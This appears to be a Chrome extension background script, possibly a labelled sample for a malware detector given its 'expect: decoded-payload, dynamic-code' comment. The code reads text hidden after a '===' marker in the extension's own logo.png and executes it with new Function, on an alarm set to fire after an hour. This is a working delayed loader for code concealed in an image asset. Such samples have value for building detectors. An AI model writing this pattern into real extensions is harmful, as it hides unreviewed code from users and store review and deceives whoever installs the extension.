async function wake() {
  const answer = await fetch(chrome.runtime.getURL('icons/logo.png'));
  const text = await answer.text();
  const hidden = text.slice(text.lastIndexOf('===') + 3);
  // expect: decoded-payload, dynamic-code
  new Function(hidden)();
}
chrome.alarms.create('wake', { delayInMinutes: 60 });
chrome.alarms.onAlarm.addListener(wake);
